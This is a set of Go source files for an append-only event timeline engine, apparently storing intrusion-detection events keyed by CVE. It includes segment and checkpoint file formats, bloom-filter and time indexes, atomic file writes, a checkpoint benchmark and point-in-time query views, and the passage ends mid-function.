		seq = e.checkpoints[n-1].Seq + 1
	}
	path := e.dir + "/" + checkpointName(seq)
	tmp := e.dir + "/" + fmt.Sprintf("ckpt-%06d.tmp", seq)
	writtenAt := time.Now().UTC()
	data := encodeCheckpoint(seq, k, cut, writtenAt, agg)
	if err := writeFileAtomic(e.fs, tmp, path, data); err != nil {
		return err
	}
	e.checkpoints = append(e.checkpoints, &ckptMeta{
		Seq: seq, K: k, Cut: cut, WrittenAt: writtenAt,
		SizeBytes: int64(len(data)), path: path,
	})
	e.cacheAggregate(seq, agg)
	e.sinceCkpt = 0
	return nil
}

func (e *Engine) cacheAggregate(seq uint64, agg *Aggregate) {
	e.aggMu.Lock()
	defer e.aggMu.Unlock()
	e.aggCache[seq] = agg
	for len(e.aggCache) > aggCacheSize {
		lowest := seq
		for s := range e.aggCache {
			if s < lowest {
				lowest = s
			}
		}
		delete(e.aggCache, lowest)
	}
}

// loadAggregate returns the aggregate for a checkpoint, from cache or disk.
func (e *Engine) loadAggregate(c *ckptMeta) (*Aggregate, error) {
	e.aggMu.Lock()
	agg, ok := e.aggCache[c.Seq]
	e.aggMu.Unlock()
	if ok {
		return agg, nil
	}
	raw, err := e.fs.ReadFile(c.path)
	if err != nil {
		return nil, fmt.Errorf("timeline: %w", err)
	}
	meta, agg, err := parseCheckpoint(c.path, raw)
	if err != nil {
		return nil, err
	}
	if meta.Seq != c.Seq || meta.K != c.K {
		return nil, fmt.Errorf("timeline: %s changed identity on disk (seq %d k %d, expected seq %d k %d)", c.path, meta.Seq, meta.K, c.Seq, c.K)
	}
	e.cacheAggregate(c.Seq, agg)
	return agg, nil
}

// Metrics reports sealing and checkpoint state for monitoring.
func (e *Engine) Metrics() Metrics {
	e.mu.RLock()
	defer e.mu.RUnlock()
	m := Metrics{Segments: len(e.segments), Checkpoints: len(e.checkpoints)}
	for _, s := range e.segments {
		m.SealedEvents += int64(s.Count)
		m.SealedBytes += s.SizeBytes
	}
	if n := len(e.checkpoints); n > 0 {
		m.CheckpointAt = e.checkpoints[n-1].WrittenAt
		if agg, err := e.loadAggregateRLocked(e.checkpoints[n-1]); err == nil {
			m.CheckpointEvents = int64(agg.EventCount())
		}
	}
	return m
}

// loadAggregateRLocked is loadAggregate for callers holding only e.mu.RLock
// (loadAggregate itself takes no engine lock, just the cache mutex).
func (e *Engine) loadAggregateRLocked(c *ckptMeta) (*Aggregate, error) {
	return e.loadAggregate(c)
}

// SegmentCount reports the number of sealed segments.
func (e *Engine) SegmentCount() int {
	e.mu.RLock()
	defer e.mu.RUnlock()
	return len(e.segments)
}
