package timeline_test

import (
	"testing"
	"time"

	"repro/internal/fault"
	"repro/internal/timeline"
)

// BenchmarkAsOf measures a time-travel query at the head of a fully sealed
// log, checkpointed (one checkpoint per segment, so a query replays only the
// tail) versus cold (no checkpoints: every query replays every segment).
// The acceptance gate is checkpointed >= 10x faster than cold replay; the
// recorded baselines live in BENCH_analysis.json.
func BenchmarkAsOf(b *testing.B) {
	study, batch := studyFixture(b)
	events := batch.Events
	var last time.Time
	for i := range events {
		if events[i].Time.After(last) {
			last = events[i].Time
		}
	}
	cut := last.Add(time.Hour)

	for _, mode := range []struct {
		name string
		ckpt int
	}{
		{"checkpointed", 1},
		{"cold", -1},
	} {
		fs := fault.NewSimFS(1, fault.Profile{})
		st := openStore(b, fs)
		eng, err := study.OpenTimeline("tl", st, timeline.Config{FS: fs, CheckpointEvery: mode.ckpt})
		if err != nil {
			b.Fatal(err)
		}
		const chunks = 16
		per := (len(events) + chunks - 1) / chunks
		for i := 0; i < len(events); i += per {
			end := min(i+per, len(events))
			appendCommit(b, st, events[i:end])
			if _, err := eng.Seal(); err != nil {
				b.Fatal(err)
			}
		}
		b.Run(mode.name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				v, err := eng.AsOf(cut)
				if err != nil {
					b.Fatal(err)
				}
				if v.EventCount() != len(events) {
					b.Fatalf("as-of view holds %d events, want %d", v.EventCount(), len(events))
				}
			}
		})
		if err := st.Close(); err != nil {
			b.Fatal(err)
		}
	}
}
