package timeline

import (
	"encoding/binary"
	"fmt"
	"hash/fnv"
	"os"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
)

// On-disk segment format. A segment file is:
//
//	8-byte magic "TLSEG\x00\x01\n"
//	repeated eventstore.AppendFrame records, each payload tagged by its
//	first byte:
//
//	  'H' header   u32 version | u64 seq | u32 shards | shards x u64
//	               cumulative sealed counts | u32 eventCount
//	               | minTime | maxTime            (times are i64 sec + u32 nsec)
//	  'E' event    one eventstore.EncodeEvent payload; events appear in the
//	               store's canonical time order (eventstore.SortEvents)
//	  'T' index    u32 every | u32 n | n x (time | u64 frameOffset | u32 ordinal)
//	               — every `every`-th event's time and the byte offset of its
//	               frame, for locating a time cut without decoding the prefix
//	  'C' index    u32 n | n x (u16 len | cve | u32 count | count x u32 ordinal)
//	               — which events carry each CVE, for per-CVE reads
//	  'B' bloom    u32 k | u64 mBits | bit bytes — CVE membership filter, so
//	               a per-CVE query skips whole segments without reading them
//
// The header's cumulative counts are the per-shard committed-event counts
// the store had sealed after this segment, making segments self-describing:
// recovery reads the newest header and knows exactly where sealing resumes —
// there is no separate manifest to keep crash-consistent. A segment becomes
// visible only by the final rename of a fully fsynced temp file, so a listed
// *.seg is complete by construction; recovery's only cleanup is removing
// stranded *.tmp files.

var segMagic = [8]byte{'T', 'L', 'S', 'E', 'G', 0x00, 0x01, '\n'}

const (
	segVersion = 1
	// timeIndexEvery is the sparse time-index stride: one entry per this
	// many events.
	timeIndexEvery = 64
	// bloomBitsPerCVE sizes the CVE bloom filter (~1% false positives at 10
	// bits/element with 4 hashes).
	bloomBitsPerCVE = 10
	bloomHashes     = 4
)

const (
	tagHeader = 'H'
	tagEvent  = 'E'
	tagTime   = 'T'
	tagCVE    = 'C'
	tagBloom  = 'B'
)

func segmentName(seq uint64) string { return fmt.Sprintf("segment-%06d.seg", seq) }

// segmentMeta is the in-memory summary of one sealed segment: everything
// needed to decide whether a query must read the file, without the events.
type segmentMeta struct {
	Seq          uint64
	SealedCounts []int64 // cumulative per-shard committed counts after this segment
	Count        int
	MinTime      time.Time
	MaxTime      time.Time
	SizeBytes    int64
	timeIdx      []timeIdxEntry
	cveIdx       map[string][]uint32
	bloom        bloomFilter
	path         string
}

type timeIdxEntry struct {
	at      time.Time
	offset  int64 // frame start, relative to file start
	ordinal uint32
}

// encodeSegment builds the full segment file image. events must already be
// in canonical order (eventstore.SortEvents).
func encodeSegment(seq uint64, sealedCounts []int64, events []ids.Event) []byte {
	buf := append([]byte(nil), segMagic[:]...)

	var minT, maxT time.Time
	for i := range events {
		if i == 0 || events[i].Time.Before(minT) {
			minT = events[i].Time
		}
		if i == 0 || events[i].Time.After(maxT) {
			maxT = events[i].Time
		}
	}
	header := []byte{tagHeader}
	header = binary.LittleEndian.AppendUint32(header, segVersion)
	header = binary.LittleEndian.AppendUint64(header, seq)
	header = binary.LittleEndian.AppendUint32(header, uint32(len(sealedCounts)))
	for _, n := range sealedCounts {
		header = binary.LittleEndian.AppendUint64(header, uint64(n))
	}
	header = binary.LittleEndian.AppendUint32(header, uint32(len(events)))
	header = appendSegTime(header, minT)
	header = appendSegTime(header, maxT)
	buf = eventstore.AppendFrame(buf, header)

	// Event frames, recording every timeIndexEvery-th frame's offset for the
	// sparse index, and per-CVE ordinals for the CVE index.
	type idxe struct {
		at      time.Time
		off     int64
		ordinal uint32
	}
	var entries []idxe
	cveOrds := map[string][]uint32{}
	var payload []byte
	for i := range events {
		if i%timeIndexEvery == 0 {
			entries = append(entries, idxe{at: events[i].Time, off: int64(len(buf)), ordinal: uint32(i)})
		}
		if cve := events[i].CVE; cve != "" {
			cveOrds[cve] = append(cveOrds[cve], uint32(i))
		}
		payload = append(payload[:0], tagEvent)
		payload = eventstore.EncodeEvent(payload, &events[i])
		buf = eventstore.AppendFrame(buf, payload)
	}

	tIdx := []byte{tagTime}
	tIdx = binary.LittleEndian.AppendUint32(tIdx, timeIndexEvery)
	tIdx = binary.LittleEndian.AppendUint32(tIdx, uint32(len(entries)))
	for _, e := range entries {
		tIdx = appendSegTime(tIdx, e.at)
		tIdx = binary.LittleEndian.AppendUint64(tIdx, uint64(e.off))
		tIdx = binary.LittleEndian.AppendUint32(tIdx, e.ordinal)
	}
	buf = eventstore.AppendFrame(buf, tIdx)

	cves := make([]string, 0, len(cveOrds))
	for cve := range cveOrds {
		cves = append(cves, cve)
	}
	sortStrings(cves)
	cIdx := []byte{tagCVE}
	cIdx = binary.LittleEndian.AppendUint32(cIdx, uint32(len(cves)))
	for _, cve := range cves {
		cIdx = binary.LittleEndian.AppendUint16(cIdx, uint16(len(cve)))
		cIdx = append(cIdx, cve...)
		ords := cveOrds[cve]
		cIdx = binary.LittleEndian.AppendUint32(cIdx, uint32(len(ords)))
		for _, o := range ords {
			cIdx = binary.LittleEndian.AppendUint32(cIdx, o)
		}
	}
	buf = eventstore.AppendFrame(buf, cIdx)

	bloom := newBloom(len(cves))
	for _, cve := range cves {
		bloom.add(cve)
	}
	bIdx := []byte{tagBloom}
	bIdx = binary.LittleEndian.AppendUint32(bIdx, bloomHashes)
	bIdx = binary.LittleEndian.AppendUint64(bIdx, uint64(bloom.mBits))
	bIdx = append(bIdx, bloom.bits...)
	buf = eventstore.AppendFrame(buf, bIdx)

	return buf
}

func sortStrings(s []string) {
	// Tiny insertion sort keeps segment.go free of a sort import fight with
	// the hot decode path; CVE counts per segment are small.
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

func appendSegTime(buf []byte, t time.Time) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(t.Unix()))
	return binary.LittleEndian.AppendUint32(buf, uint32(t.Nanosecond()))
}

func takeSegTime(b []byte) (time.Time, []byte, error) {
	if len(b) < 12 {
		return time.Time{}, nil, fmt.Errorf("timeline: truncated time field")
	}
	sec := int64(binary.LittleEndian.Uint64(b[0:8]))
	nsec := binary.LittleEndian.Uint32(b[8:12])
	return time.Unix(sec, int64(nsec)).UTC(), b[12:], nil
}

// parseSegment reads a segment file image into its metadata summary. The
// events themselves are not retained: queries re-read the file and scan from
// a sparse-index offset, so resident cost per segment is the index, not the
// data.
func parseSegment(path string, raw []byte) (*segmentMeta, error) {
	if len(raw) < len(segMagic) || [8]byte(raw[:8]) != segMagic {
		return nil, fmt.Errorf("timeline: %s is not a segment file", path)
	}
	m := &segmentMeta{path: path, Count: -1, SizeBytes: int64(len(raw))}
	good, clean, err := eventstore.ScanFrames(raw[len(segMagic):], func(payload []byte) error {
		if len(payload) == 0 {
			return fmt.Errorf("empty frame")
		}
		switch payload[0] {
		case tagHeader:
			return m.parseHeader(payload[1:])
		case tagEvent:
			// Validated lazily at scan time; only count here.
		case tagTime:
			return m.parseTimeIdx(payload[1:])
		case tagCVE:
			return m.parseCVEIdx(payload[1:])
		case tagBloom:
			return m.parseBloom(payload[1:])
		default:
			return fmt.Errorf("unknown frame tag %q", payload[0])
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("timeline: %s: %w", path, err)
	}
	if !clean {
		return nil, fmt.Errorf("timeline: %s: torn frame at offset %d (segments are renamed in whole; this is storage corruption)", path, len(segMagic)+good)
	}
	if m.Count < 0 || m.SealedCounts == nil {
		return nil, fmt.Errorf("timeline: %s: missing header frame", path)
	}
	if m.timeIdx == nil || m.cveIdx == nil || m.bloom.bits == nil {
		return nil, fmt.Errorf("timeline: %s: missing index frames", path)
	}
	return m, nil
}

func (m *segmentMeta) parseHeader(b []byte) error {
	if len(b) < 16 {
		return fmt.Errorf("short header")
	}
	if v := binary.LittleEndian.Uint32(b[0:4]); v != segVersion {
		return fmt.Errorf("unsupported segment version %d", v)
	}
	m.Seq = binary.LittleEndian.Uint64(b[4:12])
	nShards := binary.LittleEndian.Uint32(b[12:16])
	b = b[16:]
	if nShards > 1<<12 || len(b) < int(nShards)*8+4 {
		return fmt.Errorf("short header (shards=%d)", nShards)
	}
	m.SealedCounts = make([]int64, nShards)
	for i := range m.SealedCounts {
		m.SealedCounts[i] = int64(binary.LittleEndian.Uint64(b[:8]))
		b = b[8:]
	}
	m.Count = int(binary.LittleEndian.Uint32(b[:4]))
	b = b[4:]
	var err error
	if m.MinTime, b, err = takeSegTime(b); err != nil {
		return err
	}
	if m.MaxTime, b, err = takeSegTime(b); err != nil {
		return err
	}
	if len(b) != 0 {
		return fmt.Errorf("%d stray bytes after header", len(b))
	}
	return nil
}

func (m *segmentMeta) parseTimeIdx(b []byte) error {
	if len(b) < 8 {
		return fmt.Errorf("short time index")
	}
	n := binary.LittleEndian.Uint32(b[4:8])
	b = b[8:]
	if n > 1<<28 {
		return fmt.Errorf("oversized time index (%d entries)", n)
	}
	m.timeIdx = make([]timeIdxEntry, 0, n)
	for i := uint32(0); i < n; i++ {
		at, rest, err := takeSegTime(b)
		if err != nil {
			return err
		}
		if len(rest) < 12 {
			return fmt.Errorf("short time index entry")
		}
		m.timeIdx = append(m.timeIdx, timeIdxEntry{
			at:      at,
			offset:  int64(binary.LittleEndian.Uint64(rest[0:8])),
			ordinal: binary.LittleEndian.Uint32(rest[8:12]),
		})
		b = rest[12:]
	}
	if len(b) != 0 {
		return fmt.Errorf("%d stray bytes after time index", len(b))
	}
	return nil
}

func (m *segmentMeta) parseCVEIdx(b []byte) error {
	if len(b) < 4 {
		return fmt.Errorf("short CVE index")
	}
	n := binary.LittleEndian.Uint32(b[0:4])
	b = b[4:]
	if n > 1<<24 {
		return fmt.Errorf("oversized CVE index (%d entries)", n)
	}
	m.cveIdx = make(map[string][]uint32, n)
	for i := uint32(0); i < n; i++ {
		if len(b) < 2 {
			return fmt.Errorf("short CVE index entry")
		}
		sl := int(binary.LittleEndian.Uint16(b[0:2]))
		b = b[2:]
		if len(b) < sl+4 {
			return fmt.Errorf("short CVE index entry")
		}
		cve := string(b[:sl])
		b = b[sl:]
		cnt := binary.LittleEndian.Uint32(b[0:4])
		b = b[4:]
		if uint64(cnt)*4 > uint64(len(b)) {
			return fmt.Errorf("short CVE ordinal list")
		}
		ords := make([]uint32, cnt)
		for j := range ords {
			ords[j] = binary.LittleEndian.Uint32(b[:4])
			b = b[4:]
		}
		m.cveIdx[cve] = ords
	}
	if len(b) != 0 {
		return fmt.Errorf("%d stray bytes after CVE index", len(b))
	}
	return nil
}

func (m *segmentMeta) parseBloom(b []byte) error {
	if len(b) < 12 {
		return fmt.Errorf("short bloom filter")
	}
	k := binary.LittleEndian.Uint32(b[0:4])
	mBits := binary.LittleEndian.Uint64(b[4:12])
	bits := b[12:]
	if k == 0 || k > 16 || mBits > uint64(len(bits))*8 {
		return fmt.Errorf("bad bloom geometry (k=%d mBits=%d bytes=%d)", k, mBits, len(bits))
	}
	m.bloom = bloomFilter{k: int(k), mBits: int(mBits), bits: append([]byte(nil), bits...)}
	return nil
}

// mayContainCVE consults the bloom filter (false = definitely absent).
func (m *segmentMeta) mayContainCVE(cve string) bool { return m.bloom.has(cve) }

// scanRange reads the segment file and calls fn for each event with
// lo < Time <= hi (no lower bound when hasLo is false), in segment order.
// Events are time-ordered within a segment, so the scan starts at the last
// sparse-index entry at or below lo and stops at the first event past hi.
func (m *segmentMeta) scanRange(fs fault.FS, hasLo bool, lo, hi time.Time, fn func(ids.Event) error) error {
	if m.Count == 0 || m.MinTime.After(hi) {
		return nil
	}
	if hasLo && !m.MaxTime.After(lo) {
		return nil // fully at or below the lower bound
	}
	raw, err := fs.ReadFile(m.path)
	if err != nil {
		return err
	}
	start := int64(len(segMagic))
	if hasLo {
		// Last index entry with at <= lo: every event before it is <= lo too.
		for _, e := range m.timeIdx {
			if e.at.After(lo) {
				break
			}
			start = e.offset
		}
	}
	if start > int64(len(raw)) {
		return fmt.Errorf("timeline: %s: index offset %d beyond file (%d bytes)", m.path, start, len(raw))
	}
	stop := fmt.Errorf("stop") //nolint:err113 — internal scan sentinel
	_, _, err = eventstore.ScanFrames(raw[start:], func(payload []byte) error {
		if len(payload) == 0 {
			return fmt.Errorf("empty frame")
		}
		if payload[0] == tagHeader {
			return nil // scanning from the file start; events follow
		}
		if payload[0] != tagEvent {
			return stop // past the event frames (index/bloom tail)
		}
		ev, err := eventstore.DecodeEvent(payload[1:])
		if err != nil {
			return err
		}
		if ev.Time.After(hi) {
			return stop
		}
		if hasLo && !ev.Time.After(lo) {
			return nil
		}
		return fn(ev)
	})
	if err == stop {
		err = nil
	}
	if err != nil {
		return fmt.Errorf("timeline: %s: %w", m.path, err)
	}
	return nil
}

// scanCVE reads only the named CVE's events with Time <= hi, using the
// per-CVE ordinal index and the sparse time index to touch as few frames as
// possible. Returns nothing quickly when the bloom filter rules the CVE out.
func (m *segmentMeta) scanCVE(fs fault.FS, cve string, hi time.Time, fn func(ids.Event) error) error {
	if !m.mayContainCVE(cve) || m.MinTime.After(hi) {
		return nil
	}
	ords, ok := m.cveIdx[cve]
	if !ok || len(ords) == 0 {
		return nil
	}
	raw, err := fs.ReadFile(m.path)
	if err != nil {
		return err
	}
	want := make(map[uint32]bool, len(ords))
	for _, o := range ords {
		want[o] = true
	}
	// Start at the index entry covering the first wanted ordinal.
	first := ords[0]
	start, ordinal := int64(len(segMagic)), uint32(0)
	for _, e := range m.timeIdx {
		if e.ordinal > first {
			break
		}
		start, ordinal = e.offset, e.ordinal
	}
	if start > int64(len(raw)) {
		return fmt.Errorf("timeline: %s: index offset %d beyond file (%d bytes)", m.path, start, len(raw))
	}
	last := ords[len(ords)-1]
	stop := fmt.Errorf("stop") //nolint:err113
	_, _, err = eventstore.ScanFrames(raw[start:], func(payload []byte) error {
		if len(payload) == 0 {
			return fmt.Errorf("empty frame")
		}
		if payload[0] == tagHeader {
			return nil // scanning from the file start; events follow
		}
		if payload[0] != tagEvent {
			return stop
		}
		o := ordinal
		ordinal++
		if o > last {
			return stop
		}
		if !want[o] {
			return nil
		}
		ev, err := eventstore.DecodeEvent(payload[1:])
		if err != nil {
			return err
		}
		if ev.Time.After(hi) {
			return stop // events are time-ordered; nothing later qualifies
		}
		return fn(ev)
	})
	if err == stop {
		err = nil
	}
	if err != nil {
		return fmt.Errorf("timeline: %s: %w", m.path, err)
	}
	return nil
}

// writeFileAtomic writes data to path via a fully fsynced temp file and a
// rename — the only way segment and checkpoint files come into existence, so
// a listed file is complete by construction. On any failure the temp file is
// removed; a crash between write and rename leaves a *.tmp that recovery
// deletes.
func writeFileAtomic(fs fault.FS, tmp, path string, data []byte) error {
	f, err := fs.OpenFile(tmp, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	cleanup := func(err error) error {
		f.Close()
		fs.Remove(tmp) // best effort; recovery also sweeps *.tmp
		return err
	}
	if _, err := f.Write(data); err != nil {
		return cleanup(err)
	}
	if err := f.Sync(); err != nil {
		return cleanup(err)
	}
	if err := f.Close(); err != nil {
		fs.Remove(tmp)
		return err
	}
	if err := fs.Rename(tmp, path); err != nil {
		fs.Remove(tmp)
		return err
	}
	return nil
}

// bloomFilter is a standard double-hashed bloom filter over CVE strings.
type bloomFilter struct {
	k     int
	mBits int
	bits  []byte
}

func newBloom(n int) bloomFilter {
	bits := n * bloomBitsPerCVE
	if bits < 64 {
		bits = 64
	}
	bits = (bits + 63) / 64 * 64
	return bloomFilter{k: bloomHashes, mBits: bits, bits: make([]byte, bits/8)}
}

func bloomHash(s string) (uint64, uint64) {
	h := fnv.New64a()
	h.Write([]byte(s))
	h1 := h.Sum64()
	// SplitMix64 finalizer as the second, independent hash.
	z := h1 + 0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	h2 := z ^ (z >> 31)
	if h2%2 == 0 { // keep the stride odd so it cycles the whole table
		h2++
	}
	return h1, h2
}

func (b *bloomFilter) add(s string) {
	h1, h2 := bloomHash(s)
	for i := 0; i < b.k; i++ {
		bit := (h1 + uint64(i)*h2) % uint64(b.mBits)
		b.bits[bit/8] |= 1 << (bit % 8)
	}
}

func (b *bloomFilter) has(s string) bool {
	if b.mBits == 0 {
		return false
	}
	h1, h2 := bloomHash(s)
	for i := 0; i < b.k; i++ {
		bit := (h1 + uint64(i)*h2) % uint64(b.mBits)
		if b.bits[bit/8]&(1<<(bit%8)) == 0 {
			return false
		}
	}
	return true
}
