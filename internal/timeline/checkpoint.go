package timeline

import (
	"encoding/binary"
	"fmt"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/lifecycle"
)

// Aggregate is the mergeable summary a checkpoint persists: scan statistics
// and per-CVE lifecycle accumulators. Both components are commutative
// monoids — insensitive to event order and batching — which is what makes
// checkpoints correct under late-arriving events: a checkpoint covers
// "events in sealed segments [0..k) with Time <= cut" no matter what order
// those events arrived in.
type Aggregate struct {
	Stats *ids.StatsBuilder
	Life  *lifecycle.Builder
}

// NewAggregate returns an empty aggregate.
func NewAggregate() *Aggregate {
	return &Aggregate{Stats: ids.NewStatsBuilder(), Life: lifecycle.NewBuilder()}
}

// Add folds a batch of events into the aggregate. rulePub maps rule SIDs to
// their publication times (lifecycle FixReady evidence).
func (a *Aggregate) Add(events []ids.Event, rulePub map[int]time.Time) {
	a.Stats.AddEvents(events)
	a.Life.AddEvents(events, rulePub)
}

// AddOne folds a single event without allocating a slice.
func (a *Aggregate) AddOne(ev ids.Event, rulePub map[int]time.Time) {
	a.Stats.AddEvents([]ids.Event{ev})
	a.Life.AddEvents([]ids.Event{ev}, rulePub)
}

// Clone returns an independent deep copy.
func (a *Aggregate) Clone() *Aggregate {
	return &Aggregate{Stats: a.Stats.Clone(), Life: a.Life.Clone()}
}

// EventCount reports how many events have been folded in.
func (a *Aggregate) EventCount() int { return a.Life.EventCount() }

// On-disk checkpoint format:
//
//	8-byte magic "TLCKP\x00\x01\n"
//	frame 'K': u32 version | u64 seq | u32 k (sealed segments covered)
//	           | cutTime | writtenAt        (i64 sec + u32 nsec each)
//	frame 'S': ids.StatsBuilder binary encoding
//	frame 'L': lifecycle.Builder binary encoding
//
// A checkpoint with segment count k and cut time tc asserts: the aggregate
// covers exactly the events in segments [0..k) — all of them, since tc is
// the running maximum event time over that sealed prefix. AsOf(t) picks the
// newest checkpoint with tc <= t and replays only events in (tc, t] from
// newer segments plus the store's unsealed tail.

var ckptMagic = [8]byte{'T', 'L', 'C', 'K', 'P', 0x00, 0x01, '\n'}

const (
	ckptVersion = 1
	tagCkptHdr  = 'K'
	tagStats    = 'S'
	tagLife     = 'L'
)

func checkpointName(seq uint64) string { return fmt.Sprintf("ckpt-%06d.ck", seq) }

// ckptMeta is the in-memory handle for one checkpoint; the aggregate itself
// is loaded (and cached) on demand.
type ckptMeta struct {
	Seq       uint64
	K         int // segments [0..K) covered
	Cut       time.Time
	WrittenAt time.Time
	SizeBytes int64
	path      string
}

func encodeCheckpoint(seq uint64, k int, cut, writtenAt time.Time, agg *Aggregate) []byte {
	buf := append([]byte(nil), ckptMagic[:]...)
	hdr := []byte{tagCkptHdr}
	hdr = binary.LittleEndian.AppendUint32(hdr, ckptVersion)
	hdr = binary.LittleEndian.AppendUint64(hdr, seq)
	hdr = binary.LittleEndian.AppendUint32(hdr, uint32(k))
	hdr = appendSegTime(hdr, cut)
	hdr = appendSegTime(hdr, writtenAt)
	buf = eventstore.AppendFrame(buf, hdr)
	buf = eventstore.AppendFrame(buf, agg.Stats.AppendBinary([]byte{tagStats}))
	buf = eventstore.AppendFrame(buf, agg.Life.AppendBinary([]byte{tagLife}))
	return buf
}

// parseCheckpoint decodes a checkpoint file. Any malformation is an error;
// the engine treats a bad checkpoint as absent (falling back to the previous
// one) rather than fatal, since losing a checkpoint only costs replay time,
// never correctness.
func parseCheckpoint(path string, raw []byte) (*ckptMeta, *Aggregate, error) {
	if len(raw) < len(ckptMagic) || [8]byte(raw[:8]) != ckptMagic {
		return nil, nil, fmt.Errorf("timeline: %s is not a checkpoint file", path)
	}
	meta := &ckptMeta{path: path, K: -1, SizeBytes: int64(len(raw))}
	agg := &Aggregate{}
	_, clean, err := eventstore.ScanFrames(raw[len(ckptMagic):], func(payload []byte) error {
		if len(payload) == 0 {
			return fmt.Errorf("empty frame")
		}
		body := payload[1:]
		switch payload[0] {
		case tagCkptHdr:
			if len(body) < 16 {
				return fmt.Errorf("short checkpoint header")
			}
			if v := binary.LittleEndian.Uint32(body[0:4]); v != ckptVersion {
				return fmt.Errorf("unsupported checkpoint version %d", v)
			}
			meta.Seq = binary.LittleEndian.Uint64(body[4:12])
			meta.K = int(binary.LittleEndian.Uint32(body[12:16]))
			body = body[16:]
			var err error
			if meta.Cut, body, err = takeSegTime(body); err != nil {
				return err
			}
			if meta.WrittenAt, body, err = takeSegTime(body); err != nil {
				return err
			}
			if len(body) != 0 {
				return fmt.Errorf("%d stray bytes after checkpoint header", len(body))
			}
		case tagStats:
			sb, rest, err := ids.DecodeStatsBuilder(body)
			if err != nil {
				return err
			}
			if len(rest) != 0 {
				return fmt.Errorf("%d stray bytes after stats", len(rest))
			}
			agg.Stats = sb
		case tagLife:
			lb, rest, err := lifecycle.DecodeBuilder(body)
			if err != nil {
				return err
			}
			if len(rest) != 0 {
				return fmt.Errorf("%d stray bytes after lifecycle state", len(rest))
			}
			agg.Life = lb
		default:
			return fmt.Errorf("unknown frame tag %q", payload[0])
		}
		return nil
	})
	if err != nil {
		return nil, nil, fmt.Errorf("timeline: %s: %w", path, err)
	}
	if !clean {
		return nil, nil, fmt.Errorf("timeline: %s: torn frame", path)
	}
	if meta.K < 0 || agg.Stats == nil || agg.Life == nil {
		return nil, nil, fmt.Errorf("timeline: %s: missing frames", path)
	}
	return meta, agg, nil
}
