package timeline

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/lifecycle"
)

// View is the study's state as of a fixed time t: every event with
// Event.Time <= t, regardless of when it arrived. The aggregate (stats and
// lifecycle timelines) is computed eagerly at AsOf time from a checkpoint
// plus its delta; the raw event list is materialized only if Events is
// called, since tables and lifecycles never need it.
type View struct {
	t   time.Time
	eng *Engine
	agg *Aggregate

	// Snapshot of engine state at AsOf time, so the view stays consistent
	// while new segments seal underneath it.
	segs   []*segmentMeta
	sealed []int64
	tail   []ids.Event // unsealed published events with Time <= t

	// replayed counts the delta events folded in on top of the checkpoint —
	// the work AsOf actually did, surfaced for tests and logging.
	replayed int
	ckptSeq  uint64
	hasCkpt  bool

	// amended counts distinct sessions whose labels at this view's time
	// differ from the sealed raw history; resolved holds the full re-labeled
	// event list when any amendments apply (nil otherwise).
	amended  int
	resolved []ids.Event

	eventsOnce sync.Once
	events     []ids.Event
	eventsErr  error
}

// AsOf returns the view of the log at time t. Cost is proportional to the
// events after the nearest checkpoint at or before t (plus the unsealed
// tail), not the full log.
func (e *Engine) AsOf(t time.Time) (*View, error) {
	e.mu.RLock()
	segs := e.segments[:len(e.segments):len(e.segments)]
	ckpts := e.checkpoints[:len(e.checkpoints):len(e.checkpoints)]
	sealed := e.sealed
	e.mu.RUnlock()

	v := &View{t: t, eng: e, segs: segs, sealed: sealed}

	// Newest checkpoint whose cut is at or before t. Its aggregate covers
	// segments [0..K) completely (cut is their max event time).
	var ckpt *ckptMeta
	for i := len(ckpts) - 1; i >= 0; i-- {
		if !ckpts[i].Cut.After(t) {
			ckpt = ckpts[i]
			break
		}
	}
	agg := NewAggregate()
	prevK := 0
	var prevCut time.Time
	hasPrev := false
	if ckpt != nil {
		base, err := e.loadAggregate(ckpt)
		if err != nil {
			return nil, err
		}
		agg = base.Clone()
		prevK, prevCut, hasPrev = ckpt.K, ckpt.Cut, true
		v.ckptSeq, v.hasCkpt = ckpt.Seq, true
	}

	fold := func(ev ids.Event) error {
		agg.AddOne(ev, e.rulePub)
		v.replayed++
		return nil
	}
	for i, m := range segs {
		var err error
		if hasPrev && i < prevK {
			// Covered through prevCut; only late events in (prevCut, t]
			// remain — usually none, and skipped on metadata alone.
			err = m.scanRange(e.fs, true, prevCut, t, fold)
		} else {
			err = m.scanRange(e.fs, false, time.Time{}, t, fold)
		}
		if err != nil {
			return nil, err
		}
	}

	// Unsealed tail: published events beyond the sealed counts. Published
	// slices are immutable prefixes, so this is safe without store locks.
	for i, shard := range e.store.PublishedEvents() {
		from := 0
		if sealed != nil && i < len(sealed) {
			from = int(sealed[i])
		}
		if from > len(shard) {
			from = len(shard)
		}
		for _, ev := range shard[from:] {
			if ev.Time.After(t) {
				continue
			}
			v.tail = append(v.tail, ev)
			if err := fold(ev); err != nil {
				return nil, err
			}
		}
	}
	v.agg = agg
	if err := v.overlayAmendments(); err != nil {
		return nil, err
	}
	return v, nil
}

// overlayAmendments re-labels the view under the store's amendment log. When
// a retroactive rescan has re-attributed sessions at or before t, the
// aggregate assembled above (which covers sealed raw history) is discarded
// and rebuilt from the resolved event list, so Stats, Timelines, and diffs
// all answer under earliest-published-match over the current ruleset.
//
// Views over unamended history pay nothing. Views that do intersect
// amendments pay one full materialization: sealed segments stay raw — the
// original record is never rewritten — so exactness has to come from a
// replay. Re-attribution is an operator-triggered exception, not the steady
// state, and the cost is the same full scan Events() already performs.
func (v *View) overlayAmendments() error {
	all := v.eng.store.Amendments()
	if len(all) == 0 {
		return nil
	}
	var appl []eventstore.Amendment
	for _, a := range all {
		// An amendment's Event.Time is the session start even for
		// retractions, so the time filter is exact.
		if !a.Event.Time.After(v.t) {
			appl = append(appl, a)
		}
	}
	if len(appl) == 0 {
		return nil
	}
	raw, err := v.rawEvents()
	if err != nil {
		return err
